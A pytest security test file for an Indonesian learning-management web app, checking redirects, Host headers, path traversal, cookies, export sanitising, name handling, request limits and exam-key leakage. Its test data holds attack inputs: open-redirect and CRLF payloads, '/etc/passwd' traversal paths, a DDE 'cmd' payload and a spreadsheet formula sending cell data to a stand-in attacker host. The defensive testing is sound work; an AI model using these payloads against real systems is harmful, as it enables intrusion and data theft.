"""The edges of the pages: where they lead, what they name, what they let through, what they keep in."""

from __future__ import annotations

import io
import json
import re
import time
import zipfile
from datetime import timedelta
from typing import Any

import pytest
import time_machine
from sqlalchemy import select, update
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from lms.app import create_app
from lms.assessments.models import Attempt, AttemptState, ItemVersion
from lms.core.actor import Role
from lms.core.db import db
from lms.core.sessions import LoginSession
from lms.core.settings import Settings
from lms.people.models import Employee
from tests.factories.identity import AccountFactory
from tests.security import world as places
from tests.security.test_walk import fields_of, rules_of
from tests.security.world import NOW, ROLES, address, open_session, visitor

AWAY = (
    "https://jahat.example", "//jahat.example", "///jahat.example", "/\\jahat.example", "\\\\jahat.example",
    "/%09/jahat.example", "/\t/jahat.example", "/%5cjahat.example", "javascript:alert(1)", " //jahat.example",
    "http:jahat.example", "/%2f/jahat.example", "/..//jahat.example", "/a\r\nLocation: //jahat.example",
    "@jahat.example",
)  # fmt: skip


@pytest.fixture
def clock():
    with time_machine.travel(NOW, tick=False) as moved:
        yield moved


def leads_away(answer: Any) -> bool:
    where = answer.headers.get("Location", "")
    return bool(re.match(r"\s*(?:[a-z]+:|[/\\]{2}|/[\t\\]|[\\@])", where, re.IGNORECASE)) or "\n" in where


@pytest.mark.parametrize("target", AWAY)
def test_no_link_of_ours_leads_to_another_site(app, world, target):
    """A message in a chat group carries our address, and after the log-in a copy of it asks for the password."""
    stranger, known = visitor(app), world.log_in(app, Role.HR)
    for client in (stranger, known):
        for page in ("/masuk", "/masuk/kode", "/masuk/ulang", "/tampilan", "/beranda", "/v"):
            for name in ("lanjut", "dari", "next", "url", "kode"):
                answer = client.get(places.with_query(page, **{name: target}))
                assert not leads_away(answer), (page, name)
                assert answer.status_code < 500
        chosen = {"tampilan": "dark", "bahasa": "id", "dari": target}
        assert not leads_away(client.post("/tampilan", data={**chosen, "csrf_token": client.token("/tampilan")}))
    for said in (target, "http://[::1", "http://localhost@jahat.example/x", "http://localhost//jahat.example"):
        page = known.get("/tampilan", headers={"Referer": said.replace("\r\n", "").replace("\t", "")})
        assert page.status_code == 200
        assert 'value="//' not in page.get_data(as_text=True)


def test_a_claimed_host_is_never_repeated(app, world):
    """A mail to a colleague is made with a false Host header, so that its links lead to the thief."""
    for role in (Role.HR, None):
        client = world.log_in(app, role)
        for rule in rules_of(app, "GET"):
            url = address(rule.rule, world.ours)
            answer = client.get(url, base_url="http://jahat.example", headers={"X-Forwarded-Host": "jahat.example"})
            if answer.mimetype.startswith(("text/html", "application/json")):
                assert "jahat" not in answer.get_data(as_text=True), url
            assert "jahat" not in answer.headers.get("Location", ""), url
    assert "jahat" not in client.get("/belajar//x", base_url="http://jahat.example").headers.get("Location", "")


@pytest.mark.parametrize(
    "path",
    ["../app.py", "..%2fapp.py", "%2e%2e/app.py", "css/../../app.py", "..\\app.py", "%5c..%5capp.py", "/etc/passwd",
     "css/%2e%2e/%2e%2e/core/secrets.py", "", ".", "css", "css/", "fonts", ".hidden", "css/bina.css%00.png", "C:\\x"],
)  # fmt: skip
def test_no_path_leads_out_of_the_public_folders(app, path):
    """Somebody asks the server for its own source, keys and password file."""
    client = visitor(app)
    for folder in ("/static/", "/bantuan/gambar/", "/bantuan/"):
        answer = client.get(folder + path)
        assert answer.status_code in {301, 303, 308, 404} or (folder == "/bantuan/" and not path), (folder, path)
        assert b"root:" not in answer.data
        assert b"import " not in answer.data


def test_cookies_of_a_real_installation_belong_to_it_alone(tmp_path, database_url):
    """A page on a neighbouring name, a proxy without TLS, a script: none of them gets the session."""
    app = create_app(
        Settings(env="production", home=tmp_path, database_url=database_url, base_url="https://bina.palopo.example",
                 host="0.0.0.0", jobs="external")
    )  # fmt: skip
    client = visitor(app)
    made = client.get("/masuk", base_url="https://bina.palopo.example")
    cookies = made.headers.getlist("Set-Cookie")
    assert cookies
    for cookie in cookies:
        assert cookie.startswith("__Host-"), cookie
        assert {"Secure", "HttpOnly", "Path=/", "SameSite=Lax"} <= {part.strip() for part in cookie.split(";")}
        assert "Domain" not in cookie
    assert "max-age" in made.headers["Strict-Transport-Security"]
    assert client.get("/_/komponen", base_url="https://bina.palopo.example").status_code == 404
    with app.app_context():
        assert db.engine.hide_parameters, "values of statements would stand in the log"
        db.engine.dispose()
    assert all(path.stat().st_mode & 0o077 == 0 for path in (tmp_path / "secrets").iterdir())


def test_a_home_that_is_made_is_its_owner_s_alone(tmp_path):
    """Another user of the same machine lists the data folder."""
    home = tmp_path / "data"
    Settings(env="test", home=home).make_home()
    assert home.stat().st_mode & 0o077 == 0


NUMBER = re.compile(r"(?<!\d)\d{8}[ .%20-]?\d{6}[ .%20-]?[12][ .%20-]?\d{3}(?!\d)")
LINK = re.compile(r'\b(?:href|action|src|formaction|hx-[a-z]+|data-[a-z-]*url)="([^"]*)"')


@pytest.mark.usefixtures("on_one_database")
def test_no_address_and_no_file_name_holds_an_employee_number(app, world):
    """Addresses end in histories, proxies and shoulders; a NIP carries a birth date."""
    wrong = []
    for role in Role:
        client = world.log_in(app, role)
        for rule in rules_of(app, "GET"):
            answer = client.get(address(rule.rule, world.ours))
            found = [answer.headers.get("Location", ""), answer.headers.get("Content-Disposition", "")]
            if answer.mimetype == "text/html":
                found += LINK.findall(answer.get_data(as_text=True))
            wrong += [f"{rule.rule} as {role}: {one}" for one in found if NUMBER.search(one)]
    assert not wrong, "\n".join(wrong)


EVIL = '=HYPERLINK("http://jahat.example?"&A1,"klik")'


@pytest.mark.usefixtures("on_one_database")
def test_exports_hold_no_formulas_and_no_links(app, session, world):
    """Somebody's name, unit or note begins with an equals sign; HR opens the export in Excel."""
    for side in (world.ours, world.theirs):
        for number, person in enumerate(side.people.values()):
            person.name = f"{'=+-@'[number % 4]}cmd|' /C calc'!A{number}"
        side.unit.name = EVIL
    session.execute(update(ItemVersion).values(explanation=EVIL, stem_md=EVIL, stem_html=EVIL))
    session.commit()
    seen = 0
    for role in Role:
        client = world.log_in(app, role)
        for rule in rules_of(app, "GET"):
            answer = client.get(address(rule.rule, world.ours))
            if "spreadsheet" in answer.mimetype:
                seen += 1
                with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
                    everything = b"".join(archive.read(name) for name in archive.namelist())
                assert b"<f>" not in everything, rule.rule
                assert b"<f " not in everything, rule.rule
                assert b"TargetMode" not in everything, rule.rule
            elif answer.mimetype == "text/csv":
                seen += 1
                for line in answer.get_data(as_text=True).lstrip("\ufeff").splitlines():
                    assert not any(cell.strip('"').startswith(("=", "+", "-", "@")) for cell in line.split(";"))
    assert seen > 12, "too few exports were seen to say anything"


NAMES = ("ꦱꦸꦫꦏꦂꦠ", "ᬩᬮᬶ", "أحمد", "Ñoño Ünal", "O'Brien & <b>Anak</b>", "A" * 200, "न्‍ि", "李" * 60)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_of_any_script_is_kept_and_shown_as_text(app, session, world, name):
    """Names here are Javanese, Balinese, Arabic, very long, or hold an apostrophe."""
    person = world.ours.people[Role.PEGAWAI]
    client = world.log_in(app, Role.HR)
    assert rename(client, person, name).status_code == 303
    session.expire_all()
    session.rollback()
    assert session.get(Employee, person.id).name == name
    for url in (f"/pegawai/{person.public_id}", "/pegawai", "/beranda"):
        page = client.get(url)
        assert page.status_code == 200
        assert "<b>Anak</b>" not in page.get_data(as_text=True)
    assert world.log_in(app, Role.PEGAWAI).get("/beranda").status_code == 200
    assert client.get("/pegawai/unduh").status_code == 200


@pytest.mark.parametrize("name", ["Andi\u202eIRID", "Andi\u2066x\u2069", "An\x00di", "Andi\x07"])
def test_a_name_loses_what_turns_the_line_around(app, session, world, name):
    """A name with invisible controls makes another name of what stands beside it."""
    person = world.ours.people[Role.PEGAWAI]
    assert rename(world.log_in(app, Role.HR), person, name).status_code == 303
    session.expire_all()
    session.rollback()
    held = session.get(Employee, person.id).name
    assert held.startswith("Andi")
    assert held.isprintable()


@pytest.mark.parametrize("name", ["", " ", "\u2003", "A" * 201, "\u202e"])
def test_no_name_and_a_name_without_end_are_refused_with_a_sentence(app, session, world, name):
    """Spaces alone are no name."""
    person = world.ours.people[Role.PEGAWAI]
    before = person.name
    answer = rename(world.log_in(app, Role.HR), person, name)
    assert answer.status_code == 422
    session.expire_all()
    session.rollback()
    assert session.get(Employee, person.id).name == before


def rename(client: Any, person: Employee, name: str) -> Any:
    url = f"/pegawai/{person.public_id}/ubah"
    offered = fields_of(client.get(url).get_data(as_text=True))
    return client.send(url, {key: values[0] for key, values in offered.items() if values} | {"name": name})


def test_what_is_too_big_is_refused_before_it_is_read(app, world):
    """A film is sent as a staff list, and a form with a field of three megabytes."""
    client = world.log_in(app, Role.HR)
    token = client.token()
    film = {"csrf_token": token, "file": FileStorage(io.BytesIO(b"x" * (25 << 20)), "film.xlsx")}
    boundary, body = encode_multipart(film)  # the client itself would leave a temporary file open
    answer = client.post("/impor/baru", data=body, content_type=f'multipart/form-data; boundary="{boundary}"')
    assert answer.status_code == 413
    assert "<h1" in answer.get_data(as_text=True)
    assert client.post("/masuk", data={"csrf_token": token, "nip": "9" * (3 << 20)}).status_code == 413
    for body, media in (
        ("&".join(f"f{n}=" for n in range(200_000)), "application/x-www-form-urlencoded"),
        ("[" + "1," * 400_000 + "1]", "application/json"),
        ("x" * 700_000, "text/plain"),
    ):
        started = time.process_time()
        assert client.post("/tampilan", data=body, content_type=media).status_code in {409, 413}, media
        assert time.process_time() - started < 0.5, "a stranger's form costs the server too much"


STEM = "Pertanyaan S-"


def test_no_page_shows_a_question_before_the_exam_or_a_key_before_its_end(app, session, world):
    """A learner looks at every page, its source and its JSON, before the start and while the exam runs."""
    before = AccountFactory(employee=world.theirs.taken.employee)
    session.commit()
    enrolment = world.theirs.taken.enrolment.public_id
    for account, rows in (
        (before, world.theirs.rows | {"enrolment": enrolment}),
        (world.ours.accounts[Role.PEGAWAI], world.ours.rows),
    ):
        client = visitor(app, open_session(account))
        side = places.Side(world.ours.unit, rows=rows)
        for rule in rules_of(app, "GET"):
            if rule.rule.endswith(("/hasil", "/pembahasan")):
                continue  # of the pretest that was handed in; its review is meant to be read
            text = client.get(address(rule.rule, side)).get_data().decode("utf-8", "replace")
            assert "Kunci rahasia" not in text, rule.rule
            if account is before or not rule.rule.startswith("/ujian/"):
                assert STEM not in text, rule.rule
    client = world.log_in(app, Role.PEGAWAI)
    url = f"/ujian/{world.ours.rows['attempt']}"
    for tail in ("/hasil", "/pembahasan"):
        assert "Kunci rahasia" not in client.get(url + tail, follow_redirects=True).get_data(as_text=True)
    hidden = {"correct", "accepted", "feedback", "explanation", "mark"}
    for body in (client.get(f"{url}/lembar").get_json(), client.get(f"{url}/keadaan").get_json()):
        assert not hidden & set(re.findall(r"\w+", json.dumps(body)))


def learner(app: Any, world: Any) -> tuple[Any, str, dict[str, Any]]:
    """Return the client of one in an exam, its address, and a response to save."""
    client = world.log_in(app, Role.PEGAWAI)
    url = f"/ujian/{world.ours.rows['attempt']}"
    state = client.get(f"{url}/keadaan").get_json()
    question = next(iter(state["items"]))
    body = {"q": question, "o": [], "t": "", "f": True, "b": 0, "c": "device:tab1:1"}
    return client, url, {"json": body, "headers": {"X-CSRF-Token": state["token"], "Accept": "application/json"}}


def test_a_session_that_ends_in_mid_exam_loses_nothing(app, session, world):
    """The log-in ran out at question seven; the page says so, and after a new log-in the same save goes through."""
    client, url, sent = learner(app, world)
    assert client.post(f"{url}/simpan", **sent).status_code == 200
    session.execute(update(LoginSession).values(ended_at=NOW))
    session.commit()
    refused = client.post(f"{url}/simpan", **{**sent, "json": sent["json"] | {"c": "device:tab1:2", "b": 1}})
    assert refused.status_code in {401, 409}
    assert refused.get_json()["detail"]
    again, _url, fresh = learner(app, world)
    state = again.get(f"{url}/keadaan").get_json()
    assert state["items"][sent["json"]["q"]] == 1
    late = {**fresh, "json": sent["json"] | {"c": "device:tab1:2", "b": 1, "f": False}}
    assert again.post(f"{url}/simpan", **late).status_code == 200


@pytest.mark.parametrize("hours", [-30, -2, 0.2])
def test_a_clock_that_jumps_gives_no_time_and_takes_no_answer(app, session, world, hours):
    """The server's clock was wrong and is set back, or on; time left is never more than the exam allows."""
    now = session.scalars(
        select(Attempt.started_at).where(Attempt.public_id == world.ours.rows["attempt"])
    ).one()  # fmt: skip
    session.rollback()
    with time_machine.travel(now + timedelta(minutes=5), tick=False) as clock:
        client, url, sent = learner(app, world)
        assert client.post(f"{url}/simpan", **sent).status_code == 200
        clock.move_to(now + timedelta(minutes=5) + timedelta(hours=hours))
        state = client.get(f"{url}/keadaan").get_json()
        assert 0 <= state["seconds_left"] <= 40 * 60
        assert state["items"][sent["json"]["q"]] == 1
        late = client.post(
            f"{url}/simpan", **{**sent, "json": sent["json"] | {"c": "device:tab1:2", "b": 1, "f": False}}
        )
        assert late.status_code == 200
        assert late.get_json()["seconds_left"] <= 40 * 60


def test_an_exam_that_was_closed_stays_closed_when_the_clock_goes_back(app, session, world):
    """The deadline passed, the result was shown; then the clock is put right."""
    attempt = session.scalars(select(Attempt).where(Attempt.public_id == world.ours.rows["attempt"])).one()
    now, attempt_id = attempt.started_at, attempt.id
    session.rollback()
    with time_machine.travel(now + timedelta(minutes=5), tick=False) as clock:
        client, url, sent = learner(app, world)
        clock.move_to(now + timedelta(hours=2))
        late = client.post(f"{url}/simpan", **sent)
        assert late.status_code == 410
        assert client.send(f"{url}/kumpulkan").status_code == 303
        clock.move_to(now + timedelta(minutes=6))
        assert client.post(f"{url}/simpan", **sent).status_code == 410
        session.rollback()
        assert session.get(Attempt, attempt_id, populate_existing=True).state is AttemptState.EXPIRED


def test_somebody_who_writes_without_end_fills_no_page(app, session, world):
    """A learner pastes a book into a short answer, a mentor into a session."""
    client, url, sent = learner(app, world)
    answer = client.post(f"{url}/simpan", **{**sent, "json": sent["json"] | {"t": "x" * 100_000}})
    assert answer.status_code in {413, 422}
    mentor = world.log_in(app, Role.MENTOR)
    book = {"mentee": world.ours.rows["pairing"], "tanggal": "24/11/2026", "jam": "14.00", "lama": "60",
            "cara": "telepon", "isi": "x" * 100_000}  # fmt: skip
    assert mentor.send(f"/mentoring/{world.ours.rows['pairing']}/sesi", book).status_code == 422


@pytest.mark.usefixtures("on_one_database")
def test_every_answer_of_every_role_keeps_its_guards(app, world):
    """A forgotten view without headers is the one that gets framed, sniffed or kept by a proxy."""
    for role in ROLES:
        client = world.log_in(app, role)
        for rule in rules_of(app, "GET"):
            answer = client.get(address(rule.rule, world.ours))
            heads = answer.headers
            told = f"{rule.rule} as {role}"
            assert heads.get("X-Content-Type-Options") == "nosniff", told
            assert heads.get("X-Frame-Options") == "DENY", told
            assert "'unsafe" not in heads["Content-Security-Policy"], told
            assert "default-src 'none'" in heads["Content-Security-Policy"], told
            kept = heads["Cache-Control"]
            if role is not None and not rule.rule.startswith(
                ("/static/", "/bantuan/gambar", "/favicon", "/manifest", "/v")
            ):
                assert "public" not in kept, told
